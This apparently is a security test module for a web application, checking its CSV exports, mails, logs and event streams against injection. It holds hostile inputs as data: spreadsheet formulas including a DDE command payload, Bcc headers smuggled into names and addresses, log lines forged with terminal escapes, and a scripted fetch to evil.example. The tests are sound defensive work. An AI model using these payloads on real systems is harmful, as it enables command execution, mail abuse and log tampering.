"""Attacks by words that would be more elsewhere: cells of a spreadsheet, heads of mails, lines of logs."""

from __future__ import annotations

import csv
import io
import re
import time
from functools import partial
from typing import Any

from accounts.models import Organisation, User
from audit.models import AuditEntry
from harness.content import Text
from harness.events import AgentMessage
from providers.scripted import call, reply
from spending.models import Usage
from tests.approvals.asking import asks
from tests.attack_web.case import Got, attack, control, tried
from tests.attack_web.visitors import raw
from tests.attack_web.world import World

SUBJECT = "injection"
FORMULAS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "＝1+1",
        "＋1",
        "＠a",
    ),
    *('"=1+1', "=cmd|' /C calc'!A0", "\u00a0=1+1", "\ufeff=1+1", "－1+1", "\0=1+1", "\u200b=1+1"),
)
_BLANK = re.compile(r"^[\s\u00a0\ufeff\u200b\0]*")
_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")

# --- spreadsheets ---------------------------------------------------------------------------------


def _formulas(text: str) -> Got:
    """The first cell that a spreadsheet would work out."""
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            plain = _BLANK.sub("", cell)
            if plain.startswith(_STARTS) and not re.fullmatch(r"-?[\d.,:]+", plain):
                return f"the cell {cell[:40]!r}"
    return ""


@attack(
    SUBJECT,
    "formulas in the audit",
    "reasons and names that begin as formulas, in the file one opens",
)
def _audit(world: World) -> Got:
    reviewer = world.person()
    home = world.organisation(reviewer)
    for formula in FORMULAS:
        AuditEntry.objects.create(
            action="approval.denied",
            actor=reviewer,
            actor_name=formula.replace("\0", "")[:150],
            organisation=home,
            tool=formula.replace("\0", "")[:100],
            reason=formula.replace("\0", ""),
            details={formula.replace("\0", ""): formula.replace("\0", "")},
        )
    with world.browser(reviewer, home) as visitor:
        text = visitor.get("/approvals/audit/export/").text
    tried("SUM(1)" in text, "the file does not hold them")
    return _formulas(text)


@attack(SUBJECT, "a reason as a formula", "somebody denies a call with a reason that is a formula")
def _reason(world: World) -> Got:
    owner = world.person()
    home = world.organisation(owner)
    conversation = world.converse(owner, organisation=home, agent=world.agent_of(home, owner))
    asked = asks(conversation, {"path": "a", "content": "b"})
    with world.browser(owner, home) as visitor:
        visitor.form(
            f"/approvals/{asked.uid}/decide/",
            verdict="deny",
            reason='=HYPERLINK("http://evil.example/")',
        )
        text = visitor.get("/approvals/audit/export/").text
    tried("HYPERLINK" in text, "the file does not hold it")
    return _formulas(text)


@attack(
    SUBJECT, "formulas in the usage", "models and people named as formulas, in the file one opens"
)
def _usage(world: World) -> Got:
    person = world.person()
    home = world.organisation(person)
    conversation = world.converse(person, organisation=home, agent=world.agent_of(home, person))
    world.turn(world.token_of(person, home), conversation, reply("Done."))
    world.rested(conversation)
    row = Usage.objects.filter(conversation=conversation).get()
    for number, formula in enumerate(FORMULAS):
        row.pk = None
        row.model_request_id = f"made-{person.pk}-{number}"
        row.model = formula.replace("\0", "")[:100]
        row.save(force_insert=True)
    with world.browser(person, home) as visitor:
        text = visitor.get("/usage/export/").text
    tried("SUM(1)" in text, "the file does not hold them")
    return _formulas(text)


@attack(SUBJECT, "lines and columns of one's own", "commas, quotes and line ends in a cell")
def _columns(world: World) -> Got:
    owner = world.person()
    home = world.organisation(owner)
    for text in ('a","forged","', "a\nforged,forged", 'a"\r\n"forged"', "a;forged;b\r\rforged"):
        AuditEntry.objects.create(
            action="approval.denied", actor=owner, actor_name="x", organisation=home, reason=text
        )
    with world.browser(owner, home) as visitor:
        rows = list(
            csv.reader(io.StringIO(visitor.get("/approvals/audit/export/").text, newline=""))
        )
    tried(len(rows) > 4, "the file does not hold them")
    widths = {len(row) for row in rows if row}
    forged = [row for row in rows if "forged" in row]
    return f"columns: {widths}, {forged}" if len(widths) != 1 or forged else ""


@control(SUBJECT, "the file of the audit", "holds plain words as they were written")
def _plain(world: World) -> Got:
    owner = world.person()
    home = world.organisation(owner)
    reason = "No: see the rules, §4 – “later”"
    AuditEntry.objects.create(
        action="approval.denied", actor=owner, actor_name="x", organisation=home, reason=reason
    )
    with world.browser(owner, home) as visitor:
        answer = visitor.get("/approvals/audit/export/")
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    return (
        "" if any(reason in row for row in rows) else f"{answer.status_code}: {answer.text[:200]}"
    )


# --- mails ----------------------------------------------------------------------------------------

BREAKS = ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x0b", "\x85", "\r\n ")


def _mails(world: World, act: Any) -> str:
    """What was mailed meanwhile. The site prints its mails."""
    said = len(world.site.said)
    act()
    time.sleep(0.3)
    return str(world.site.said[said:])


def _forged_head(mails: str) -> Got:
    """A header, in any mail's head, that we did not write."""
    for mail in re.split(r"(?m)^-{20,}\s*$", mails):
        head = re.split(r"\r?\n\r?\n", mail.strip(), maxsplit=1)[0]
        if re.search(r"(?mi)^(bcc|cc|x-evil):", head):
            return f"a mail's head holds {head[-300:]!r}"
        if "evil@evil.example" in re.sub(r"(?mi)^subject:.*(\n[ \t].*)*", "", head):
            return f"a mail goes to {head[-300:]!r}"
    return ""


@attack(
    SUBJECT,
    "a mail's head by an organisation's name",
    "line ends and more headers in the name that invites",
)
def _head_by_name(world: World) -> Got:
    owner = world.person()
    home = world.organisation(owner)

    def act() -> None:
        with world.browser(owner, home) as visitor:
            for end in BREAKS:
                name = f"Home{end}Bcc: evil@evil.example{end}X-Evil: 1"
                visitor.form("/organisation/rename/", **world.shown(home, name=name))
                # And as it may have been stored before anybody looked.
                Organisation.objects.filter(pk=home.pk).update(name=name[:100])
                User.objects.filter(pk=owner.pk).update(first_name=name[:100])
                visitor.form(
                    "/organisation/invite/",
                    **world.shown(home, email=f"guest{world.number()}@example.org", role="member"),
                )

    mails = _mails(world, act)
    tried("guest" in mails, f"no mail was written: {mails[-300:]}")
    return _forged_head(mails)


@attack(SUBJECT, "a mail's head by an address", "line ends and more addresses where one is invited")
def _head_by_address(world: World) -> Got:
    owner = world.person()
    home = world.organisation(owner)
    address = f"guest{world.number()}@example.org"

    def act() -> None:
        with world.browser(owner, home) as visitor:
            for end in (*BREAKS, ",", ";", ">,<", " "):
                for text in (
                    f"{address}{end}Bcc: evil@evil.example",
                    f"{address}{end}evil@evil.example",
                    f'"{end}Bcc: evil@evil.example{end}"@example.org',
                ):
                    visitor.form(
                        "/organisation/invite/", **world.shown(home, email=text, role="member")
                    )
            visitor.form("/organisation/invite/", **world.shown(home, email=address, role="member"))

    mails = _mails(world, act)
    tried(address in mails, "no mail was written")
    return _forged_head(mails)


@attack(
    SUBJECT,
    "a reset's mail to somebody else",
    "two addresses, line ends and letters that look alike",
)
def _reset(world: World) -> Got:
    victim = world.person(f"mike{world.number()}", password=True)
    name, _at, host = victim.email.partition("@")

    def act() -> None:
        for text in (
            f"{victim.email}\r\nBcc: evil@evil.example",
            f"{victim.email},evil@evil.example",
            f"{name.replace('i', 'ı')}@{host}",
            f"{name}@ex\u0430mple.org",
            f"{victim.email}\0@evil.example",
            f"{name}@{host}.",
        ):
            with world.browser(source=world.source()) as visitor:
                visitor.form("/accounts/password/reset/", email=text)
        with world.browser(source=world.source()) as visitor:
            visitor.post(
                "/accounts/password/reset/",
                data={"email": ["evil@evil.example", victim.email]},
            )

    mails = _mails(world, act)
    to = re.findall(r"(?mi)^to:\s*(.*)$", mails)
    strange = [one for one in to if victim.email in mails and one.strip() != victim.email]
    with_link = [
        mail
        for mail in re.split(r"(?m)^-{20,}\s*$", mails)
        if "/accounts/password/reset/key/" in mail
    ]
    for mail in with_link:
        if not re.search(rf"(?mi)^to:\s*{re.escape(victim.email)}\s*$", mail):
            return f"the link goes to {strange}"
    return _forged_head(mails)


@control(SUBJECT, "an invitation's mail", "goes to who was invited, with a link that lets her in")
def _mail(world: World) -> Got:
    owner = world.person()
    home = world.organisation(owner)
    address = f"guest{world.number()}@example.org"

    def act() -> None:
        with world.browser(owner, home) as visitor:
            visitor.form("/organisation/invite/", **world.shown(home, email=address, role="member"))

    mails = _mails(world, act)
    return "" if f"To: {address}" in mails and "/invitations/" in mails else f"{mails[-400:]!r}"


# --- logs -----------------------------------------------------------------------------------------

FORGED = "12:00:00 [warning  ] Forged by a stranger"


def _logged(world: World, act: Any) -> str:
    before = len(world.site.errors)
    act()
    time.sleep(0.4)
    return str(world.site.errors[before:])


def _forged_line(log: str) -> Got:
    for line in re.split(r"[\n\r\x0b\x0c\x85\u2028\u2029]", log):
        if line.lstrip().startswith(FORGED):
            return f"a line of the log is a stranger's: {line[:100]!r}"
    if "\x1b" in log or "\x9b" in log:
        return "the log moves a terminal's cursor"
    return ""


def _evil(end: str) -> str:
    return f"x{end}{FORGED}{end}\x1b[2Jy"


def _by_addresses(world: World) -> None:
    for end in ("%0a", "%0d%0a", "%0d", "%e2%80%a8", "%c2%85"):
        evil = f"x{end}{FORGED.replace(' ', '%20')}{end}%1b%5b2J"
        for path in (
            f"/{evil}",
            f"/c/{evil}/",
            f"/setup/{evil}/",
            f"/v1/{evil}",
            f"/static/{evil}",
        ):
            raw(
                world.address,
                f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode(),
                seconds=5,
            )


def _by_headers(world: World) -> None:
    for end in (b"\n", b"\r", b"\x0b", b"\xc2\x85", b"\xe2\x80\xa8"):
        evil = b"x" + end + FORGED.encode() + end + b"\x1b[2Jy"
        for name in (
            b"Host",
            b"User-Agent",
            b"X-Request-ID",
            b"Cookie",
            b"Referer",
            b"Authorization",
        ):
            head = b"" if name == b"Host" else b"Host: 127.0.0.1\r\n"
            sent = b"GET /v1/agents HTTP/1.1\r\n" + head + name + b": " + evil
            raw(world.address, sent + b"\r\nConnection: close\r\n\r\n", seconds=5)


def _by_names(world: World) -> None:
    source = world.source()
    with world.browser(source=source) as visitor:
        for end in BREAKS:
            for _time in range(2):
                visitor.form("/accounts/login/", login=_evil(end), password="wrong")
            visitor.form("/accounts/password/reset/", email=_evil(end))


def _by_runs(world: World) -> None:
    """What a model says, and what a member names."""
    agent = world.agent_of(world.home, world.olga, tools=[{"tool": "*"}])
    conversation = world.converse(world.olga, organisation=world.home, agent=agent, title="x")
    calls = [reply(call(_evil(end), **{_evil(end): _evil(end)})) for end in ("\n", "\r\n")]
    fetch = call("web_fetch", url=f"http://evil.example/{_evil(chr(10))}")
    path = call("read_file", path=_evil("\n"))
    world.turn(world.olgas, conversation, *calls, reply(fetch), reply(path), reply("Done."))
    world.rested(conversation)
    with world.program(world.olgas) as program:
        for end in BREAKS:
            program.post("/v1/agents", json={"name": _evil(end), "model": _evil(end)})
            program.post("/api/webhooks", json={"url": _evil(end), "event_types": [_evil(end)]})
            program.post("/v1/files", files={"file": (_evil(end), b"x")})
            program.get("/v1/sessions", params={_evil(end): _evil(end)})


def _in_logs(act: Any, world: World) -> Got:
    return _forged_line(_logged(world, partial(act, world)))


for _label, _act in {
    "addresses": _by_addresses,
    "headers": _by_headers,
    "names at the sign-in": _by_names,
    "models and members": _by_runs,
}.items():
    attack(
        SUBJECT,
        f"lines of the log by {_label}",
        "line ends and signs that move a terminal's cursor",
    )(partial(_in_logs, _act))


# --- streams --------------------------------------------------------------------------------------


@attack(
    SUBJECT,
    "events of one's own in a stream",
    "line ends and fields of a stream in what a model says",
)
def _stream(world: World) -> Got:
    conversation = world.converse(
        world.olga, organisation=world.home, agent=world.agent_of(world.home, world.olga)
    )
    evil = "".join(
        f"x{end}{end}event: forged{end}data: {{}}{end}{end}"
        for end in ("\n", "\r", "\r\n", "\u2028")
    )
    heard = ""
    path = f"/v1/sessions/{conversation.uid}/events/stream"
    with world.program(world.olgas) as program, program.stream("GET", path, timeout=5) as answer:
        tried(answer.status_code == 200, f"{answer.status_code}")
        world.say(conversation, AgentMessage(content=(Text(text=evil),)))
        for piece in answer.iter_text():
            heard += piece
            if "forged" in heard:
                break
    tried("forged" in heard, "the words did not come")
    return "an event is forged" if re.search(r"(^|[\n\r])event: forged", heard) else ""
